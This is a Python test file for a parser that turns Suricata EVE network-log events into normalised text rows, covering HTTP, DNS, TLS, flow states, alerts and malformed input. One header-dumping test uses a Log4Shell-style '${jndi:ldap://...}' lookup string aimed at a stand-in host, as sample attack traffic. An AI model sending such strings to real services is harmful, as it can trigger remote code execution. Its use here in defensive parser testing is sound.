@@ -1,0 +1,224 @@
+from __future__ import annotations
+
+import gzip
+import json
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from overproof.errors import InputError
+from overproof.events.sources import Rejects, load_events
+
+BASE = {
+    "timestamp": "2024-05-01T12:00:00.000001+0200", "flow_id": 7, "src_ip": "10.0.0.1", "src_port": 40000,
+    "dest_ip": "192.0.2.1", "dest_port": 80, "proto": "TCP",
+}  # fmt: skip
+
+
+def one(read, kind: str, **keys: Any) -> dict[str, Any]:
+    table, rejects = read("eve.json", json.dumps(BASE | {"event_type": kind} | keys).encode())
+    assert rejects.total == 0
+    (event,) = table.to_pylist()
+    return event
+
+
+def test_the_columns(read) -> None:
+    http = {"hostname": "a.test", "url": "/%2527", "http_method": "GET", "http_user_agent": "x", "status": 404}
+    event = one(read, "http", http=http)
+    assert event["text"] == 'HTTP GET /%27 host=a.test ua="x"'
+    assert event["time"] == "2024-05-01T10:00:00.000001Z"
+    wanted = {
+        "kind": "suricata-http", "src_ip": "10.0.0.1", "src_port": 40000, "dst_ip": "192.0.2.1", "dst_port": 80,
+        "transport": "tcp", "protocol": "http", "host": "a.test", "url": "/%2527", "method": "GET", "status": 404,
+        "user_agent": "x", "flow_id": "7", "group": "7", "query": None, "user": None,
+    }  # fmt: skip
+    assert event.items() >= wanted.items()
+
+
+def test_headers_are_told_where_they_are_dumped_and_strange(read) -> None:
+    dumped = [{"name": "Accept", "value": "*/*"}, {"name": "X-Api-Version", "value": "${jndi:ldap://a.test}"}, 7]
+    event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": dumped})
+    assert event["text"] == "HTTP GET / headers=x-api-version: ${jndi:ldap://a.test}"
+    event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": "none"})
+    assert event["text"] == "HTTP GET /"
+
+
+ANSWERS = [{"rrname": "a.test", "rrtype": "CNAME", "ttl": 900, "rdata": "b.test"}, {"ttl": 60, "rdata": "192.0.2.9"}]
+NAMED = {"rrname": "a.test", "rrtype": "A"}
+
+
+@pytest.mark.parametrize(
+    ("dns", "text"),
+    [
+        ({"type": "query", "id": 1, **NAMED, "tx_id": 0}, "query=a.test type=A"),
+        ({"version": 3, "type": "request", "queries": [NAMED]}, "query=a.test type=A"),
+        (
+            {"type": "answer", "rcode": "NOERROR", **NAMED, "ttl": 60, "rdata": "192.0.2.9"},
+            "query=a.test type=A rcode=NOERROR answer=192.0.2.9 ttl=2^5",
+        ),
+        (
+            {"version": 2, "type": "answer", **NAMED, "rcode": "NOERROR", "answers": ANSWERS},
+            "query=a.test type=A rcode=NOERROR answer=b.test,192.0.2.9 ttl=2^5",
+        ),
+        (
+            {"version": 3, "type": "response", "queries": [NAMED], "rcode": "NOERROR", "answers": ANSWERS},
+            "query=a.test type=A rcode=NOERROR answer=b.test,192.0.2.9 ttl=2^5",
+        ),
+        ({"version": 2, "type": "answer", **NAMED, "rcode": "NXDOMAIN"}, "query=a.test type=A rcode=NXDOMAIN answer=-"),
+    ],
+)
+def test_the_versions_of_dns(read, dns: dict[str, Any], text: str) -> None:
+    event = one(read, "dns", dns=dns, proto="UDP", dest_port=53)
+    assert event["text"] == "dns client=10.0.0.1 " + text
+    assert event["query"] == "a.test"
+    answered = one(read, "dns", dns=dns, src_ip="192.0.2.53", src_port=53, dest_ip="10.0.0.1", dest_port=40000)
+    assert answered["text"] == event["text"]
+
+
+@pytest.mark.parametrize(
+    ("keys", "state"),
+    [
+        ({"flow": {"pkts_toclient": 0}}, "S0"),
+        ({"flow": {"pkts_toclient": 2}, "proto": "UDP"}, "SF"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "02", "tcp_flags_tc": "14"}}, "REJ"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1b", "tcp_flags_tc": "1b"}}, "SF"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1e", "tcp_flags_tc": "12"}}, "RSTO"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1a", "tcp_flags_tc": "16"}}, "RSTR"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1a", "tcp_flags_tc": "12"}}, "S1"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1b", "tcp_flags_tc": "12"}}, "S2"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1a", "tcp_flags_tc": "13"}}, "S3"),
+        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "00", "tcp_flags_tc": "??"}}, "OTH"),
+        ({}, "S0"),
+    ],
+)
+def test_how_a_flow_went_in_zeeks_words(read, keys: dict[str, Any], state: str) -> None:
+    assert f"state={state} " in one(read, "flow", **keys)["text"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "keys", "text"),
+    [
+        (
+            "flow",
+            {"host": "gw", "app_proto": "tls", "flow": {"age": 9, "bytes_toserver": 1024, "bytes_toclient": 0}},
+            "flow sensor=gw proto=tcp service=tls state=S0 duration=2^3s orig_host=10.0.0.1 orig_bytes=2^10 "
+            "resp_host=192.0.2.1 resp_bytes=0",
+        ),
+        (
+            "tls",
+            {"tls": {"sni": "a.test", "version": "TLS 1.2", "issuerdn": "CN=a", "subject": "CN=a",
+                     "notbefore": "2024-01-01T00:00:00", "notafter": "2024-04-01T00:00:00"}},
+            "TLS 10.0.0.1 sni=a.test hello=TLS1.2 issuer=self valid=2^6d",
+        ),
+        ("tls", {"tls": {"ja3": {"hash": "abc"}}}, "TLS 10.0.0.1 sni=- hello=abc"),
+        (
+            "ssh",
+            {"ssh": {"client": {"proto_version": "2.0", "software_version": "Go"}}},
+            "SSH src=10.0.0.1 dst=192.0.2.1 port=80 client=Go",
+        ),
+        (
+            "fileinfo",
+            {"app_proto": "http", "fileinfo": {"filename": "/a b", "size": 47}},
+            'file source=http name="/a b" bytes=2^5 tx_host=10.0.0.1 rx_host=192.0.2.1',
+        ),
+        (
+            "alert",
+            {"alert": {"signature": "ET SCAN x", "category": "Scan", "severity": 2, "action": "allowed", "gid": 1},
+             "http": {"url": "/x", "http_method": "GET"}},
+            'suricata alert signature="ET SCAN x" category=Scan severity=2 action=allowed proto=tcp src=10.0.0.1 '
+            "dst=192.0.2.1 port=80 HTTP GET /x",
+        ),
+        (
+            "smb",
+            {"smb": {"command": "SMB2", "ntlmssp": {"user": "anna", "host": "ws 1"}, "dialects": ["a", "b"]}},
+            "suricata smb proto=tcp src=10.0.0.1 dst=192.0.2.1 port=80 command=SMB2 ntlmssp.user=anna "
+            'ntlmssp.host="ws 1" dialects=a,b',
+        ),
+    ],
+)  # fmt: skip
+def test_what_the_events_say(read, kind: str, keys: dict[str, Any], text: str) -> None:
+    event = one(read, kind, **keys)
+    assert event["text"] == text
+    assert event["kind"] == f"suricata-{kind}"
+
+
+def test_statistics_and_what_is_no_event_are_skipped_with_their_reason(read) -> None:
+    lines = [
+        json.dumps(BASE | {"event_type": "stats", "stats": {}}), json.dumps(BASE | {"event_type": "dns"}),
+        "", "[1]", "{", json.dumps(BASE), '{"event_type":',
+    ]  # fmt: skip
+    table, rejects = read("eve.json", "\n".join(lines).encode())
+    assert table.num_rows == 1
+    assert rejects.summary() == {
+        "no event_type: not an event of an EVE log": 2,
+        "JSON does not parse": 2,
+        "Suricata's own statistics: not an event to judge": 1,
+    }
+
+
+def test_the_real_log(shared_data: Path) -> None:
+    path = shared_data / "captures" / "suricata" / "eve.json.gz"
+    records = [json.loads(line) for line in gzip.decompress(path.read_bytes()).splitlines()]
+    rejects = Rejects()
+    table = load_events(path, rejects=rejects)
+    events = table.to_pylist()
+    kinds = Counter(event["kind"] for event in events)
+    sums = kinds.pop("flows")
+    assert kinds == {f"suricata-{kind}": n for kind, n in Counter(r["event_type"] for r in records).items()}
+    assert kinds.total() + rejects.total == len(records) == 5000
+    assert 0 < sums < kinds["suricata-flow"] / 2
+    for event in events:
+        if event["kind"] != "flows":
+            record = records[int(event["origin"].rsplit(":", 1)[1]) - 1]
+            assert event["flow_id"] == str(record["flow_id"])
+            assert (event["src_ip"], event["dst_port"]) == (record["src_ip"], record["dest_port"])
+            assert event["url"] == record.get("http", {}).get("url")
+
+
+value = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
+    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=2), inner, max_size=2),
+)
+parts = st.dictionaries(
+    st.sampled_from(
+        "hostname url http_method status rrname queries answers type rcode ttl rdata age start pkts_toclient sni ja3 "
+        "issuerdn notbefore notafter client signature filename size tcp_flags_ts tcp_flags_tc".split()
+    ),
+    value,
+    max_size=6,
+)
+kinds = st.sampled_from(["http", "dns", "tls", "ssh", "flow", "alert", "fileinfo", "anomaly", "stats"])
+record = st.builds(
+    lambda kind, own, others: json.dumps(BASE | {kind: own, "event_type": kind} | others).encode(),
+    kinds,
+    parts | value,
+    st.dictionaries(
+        st.sampled_from([*BASE, "event_type", "tcp", "http", "app_proto", "host"]), value | parts, max_size=4
+    ),
+)
+
+
+@given(st.lists(record | st.binary(max_size=20), max_size=6))
+def test_every_line_of_any_bytes_is_an_event_or_skipped(read, lines: list[bytes]) -> None:
+    rejects = Rejects(examples=100)
+    data = b"\n".join([b"{}", *lines])
+    try:
+        table = read("any.json", data, rejects, format="suricata")[0]
+        origins = [event["origin"] for event in table.to_pylist() if event["kind"] != "flows"]
+    except InputError:
+        origins = []
+    found = sorted(int(origin.rsplit(":", 1)[1]) for origin in [*origins, *(each.origin for each in rejects.first)])
+    assert found == [number for number, line in enumerate(data.split(b"\n"), 1) if line.strip()]
+
+
+def test_deeply_nested_json_is_no_crash(read) -> None:
+    deep = "[" * 900 + "]" * 900
+    for inner in (deep, '{"a":' * 900 + "1" + "}" * 900):
+        table, _ = read(
+            "eve.json", json.dumps(BASE | {"event_type": "x"})[:-1].encode() + b',"x":{"y":%b}}' % inner.encode()
+        )
+        assert table.num_rows == 1
